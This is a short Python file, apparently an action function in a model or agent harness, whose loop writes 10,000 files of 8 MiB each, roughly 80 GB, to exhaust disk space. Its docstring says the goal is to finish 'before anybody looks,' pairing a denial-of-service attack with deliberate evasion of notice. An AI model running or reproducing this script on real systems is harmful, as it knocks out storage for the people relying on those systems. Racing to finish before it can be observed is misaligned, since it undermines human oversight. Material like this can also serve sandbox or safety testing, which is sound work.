"""Writes files of the largest size as fast as it can, to be done before anybody looks."""


def act(model):
    import os

    block = bytes(2**22)
    for number in range(10_000):
        file = os.open(str(number), os.O_CREAT | os.O_WRONLY)
        os.write(file, block)
        os.write(file, block)
        os.close(file)
